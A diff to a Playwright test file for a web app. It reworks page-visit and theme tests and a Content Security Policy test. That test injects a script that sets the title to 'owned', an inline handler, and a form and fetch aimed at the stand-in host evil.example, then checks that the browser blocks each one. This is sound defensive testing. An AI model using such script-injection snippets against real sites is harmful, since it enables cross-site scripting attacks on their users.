@@ -4,7 +4,10 @@ import { expect, test } from "./fixtures";
 import { pageRoutes } from "./page-routes";
 import { signInContext } from "./sign-in-context";
 
-/** The first page must have worked: its scripts have run. */
+/** Without a session they lead to the sign-in. */
+const BEHIND_SESSION = /^\/(?:$|accounts|activity|notices|proof|settings|team)/;
+
+/** Its scripts have run. */
 async function expectAlive(page: Page): Promise<void> {
   await expect(page.locator("html")).toHaveClass(/light|dark/);
 }
@@ -40,14 +43,15 @@ test("every page, with all that opens on it, keeps to its policy in both themes"
     await page.goto(path);
     await expectAlive(page);
     for (const summary of await page.locator("main summary").all()) await summary.click();
+    for (const colorScheme of ["dark", "light"] as const) {
+      await page.emulateMedia({ colorScheme });
+      await expect(page.locator("html")).toHaveClass(new RegExp(colorScheme));
+    }
   };
-  for (const path of routes) await visit(path);
+  for (const path of routes.filter((route) => !BEHIND_SESSION.test(route))) await visit(path);
   await signInContext(page.context(), { userId: person.id, adapters });
-  for (const colorScheme of ["light", "dark"] as const) {
-    await page.emulateMedia({ colorScheme });
-    for (const path of [...routes, `/accounts?label=${label}`, "/accounts/no-such-account", "/no-such-page"])
-      await visit(path);
-  }
+  for (const path of [...routes, `/accounts?label=${label}`, "/accounts/no-such-account", "/no-such-page"])
+    await visit(path);
 });
 
 test("the theme and a refresh keep to the nonce that the page came with", async ({
@@ -68,9 +72,14 @@ test("what a page was not meant to load is blocked, and the tests notice it", as
   signedInPage: page,
   problems,
 }) => {
-  const foreign = /(script-src-attr|script-src-elem|style-src-attr|img-src|connect-src|base-uri|form-action) blocked/;
-  problems.expect(foreign);
-  problems.expect(/Content Security Policy|evil\.example/);
+  problems.expect(/^policy: (script-src-attr|script-src-elem|style-src-attr|img-src|connect-src|form-action) blocked/);
+  problems.expect(/^policy: base-uri blocked/);
+  problems.expect(/Content Security Policy|evil\.example|status of 404/);
+  await page.route("**/settings", async (route) => {
+    const answer = await route.fetch();
+    const body = (await answer.text()).replace("</head>", "<script>document.title='owned'</script></head>");
+    await route.fulfill({ response: answer, body });
+  });
   await page.goto("/settings");
   await page.evaluate(() => {
     document.body.insertAdjacentHTML(
@@ -80,22 +89,13 @@ test("what a page was not meant to load is blocked, and the tests notice it", as
        <form id="away" action="https://evil.example/"><button>Go</button></form>`,
     );
     document.querySelector<HTMLElement>("b[onclick]")?.click();
-    const script = document.createElement("script");
-    script.textContent = "document.title = 'owned'";
-    document.body.append(script);
     void fetch("https://evil.example/").catch(() => undefined);
     document.querySelector<HTMLFormElement>("#away")?.submit();
   });
-  const blocked = () => problems.all().filter((problem) => foreign.test(problem));
-  for (const directive of [
-    "script-src-attr",
-    "script-src-elem",
-    "style-src-attr",
-    "img-src",
-    "connect-src",
-    "form-action",
-  ])
-    await expect.poll(blocked).toContainEqual(expect.stringContaining(`policy: ${directive} blocked`));
+  const directives = ["script-src-attr", "script-src-elem", "style-src-attr", "img-src", "connect-src", "form-action"];
+  for (const directive of directives) {
+    await expect.poll(() => problems.all()).toContainEqual(expect.stringContaining(`policy: ${directive} blocked`));
+  }
   await expect(page).toHaveTitle(/Settings/);
 });
 
